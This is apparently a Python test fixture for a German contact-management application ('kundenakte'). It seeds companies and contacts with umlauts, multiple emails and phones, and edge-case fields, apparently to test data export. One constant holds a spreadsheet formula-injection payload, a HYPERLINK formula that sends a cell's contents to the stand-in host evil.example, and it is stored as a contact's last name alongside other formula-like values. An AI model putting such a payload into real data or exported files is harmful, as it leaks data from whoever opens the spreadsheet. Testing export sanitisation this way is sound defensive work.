"""Contacts with everything the new model holds, written through the services (tests/exchange)."""

from __future__ import annotations

import datetime as dt
from typing import Any

from kundenakte.core.services.companies import create_company
from kundenakte.core.services.contacts import create_contact
from kundenakte.core.users import create_user

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def _p(value: str, kind: str = "work", preferred: bool = False) -> dict[str, Any]:
    return {"value": value, "kind": kind, "preferred": preferred}


def add_people(ka: Any) -> None:  # type: ignore[no-untyped-def]
    """Five contacts of three companies: lists, odd characters, formula-like values, no company."""
    with ka.db.write() as s:
        owner = create_user(s, "owner", "geheim-123", display_name="Owner", password_hash="x")
        admin = create_user(s, "admin", "geheim-123", display_name="Admin", password_hash="x")
        s.flush()
        dochouse = create_company(s, {"name": "DOCHOUSE GmbH", "street": "Industriestraße 3", "postal_code": "97076",
                                      "city": "Würzburg", "country": "Deutschland", "phone": "+49 931 1",
                                      "email": "info@dochouse.example", "web": "https://dochouse.example",
                                      "account_manager_id": admin.id, "vat_id": "DE123456789"}, by=None)
        odd = create_company(s, {"name": "Müller, Meier; Partner", "country": "Österreich",
                                 "addresses": [{"kind": "work", "street": "Weg 1", "extra": "Hof", "postal_code": "1010",
                                                "city": "Wien", "country": "Österreich", "preferred": True}]}, by=None)
        bare = create_company(s, {"name": "Ohne Adresse AG", "country": ""}, by=None)
        s.flush()
        create_contact(s, {
            "gender": "female", "title": "Dr.", "first_name": "Katrin", "last_name": "Vogel", "company_id": dochouse.id,
            "salutation_override": "Liebe Katrin", "language": "de", "position": "Geschäftsführerin",
            "department": "Geschäftsleitung", "nickname": "Kati", "birthday": dt.date(1970, 4, 1),
            "notes": "Erste Zeile\nzweite Zeile; mit \"Zeichen\", Komma",
            "emails": [_p("k.vogel@dochouse.example", "work", True), _p("katrin@privat.example", "home"),
                       _p("kv@other.example", "other")],
            "phones": [_p("+49 931 2", "work", True), _p("+49 170 123456", "mobile"), _p("0931 99", "home"),
                       _p("+49 931 3", "fax")],
            "use_company_address": True, "account_manager_id": owner.id,
            "addresses": [{"kind": "home", "street": "Sonnenweg 5", "extra": "", "postal_code": "97082",
                           "city": "Würzburg", "country": "Deutschland", "preferred": False}],
        }, by=None)
        create_contact(s, {
            "gender": "male", "first_name": "Jonas", "last_name": "Öztürk", "company_id": dochouse.id, "language": "en",
            "emails": [_p("J.Oeztuerk@dochouse.example", "work", True)], "use_company_address": False,
            "addresses": [{"kind": "work", "street": "Hinterhof 2", "extra": "Aufgang B", "postal_code": "97070",
                           "city": "Würzburg", "country": "Österreich", "preferred": True}],
        }, by=None)
        create_contact(s, {
            "gender": "diverse", "title": "Prof. Dr.", "first_name": "", "last_name": INJECTION, "position": "+Chef",
            "phones": [_p("-1", "other", True)], "salutation_override": "@home", "use_company_address": False,
            "addresses": [{"kind": "home", "street": "Gartenweg 3", "extra": "", "postal_code": "50667",
                           "city": "'=apostroph", "country": "Deutschland", "preferred": True}],
        }, by=None)
        create_contact(s, {"gender": "unknown", "first_name": "Großherzog", "last_name": "Weiß-Straße",
                           "company_id": odd.id, "emails": [_p("gross@example.at", "work", True)],
                           "use_company_address": True}, by=None)
        create_contact(s, {"first_name": "Bernd", "last_name": "Ohne", "company_id": bare.id,
                           "use_company_address": False}, by=None)
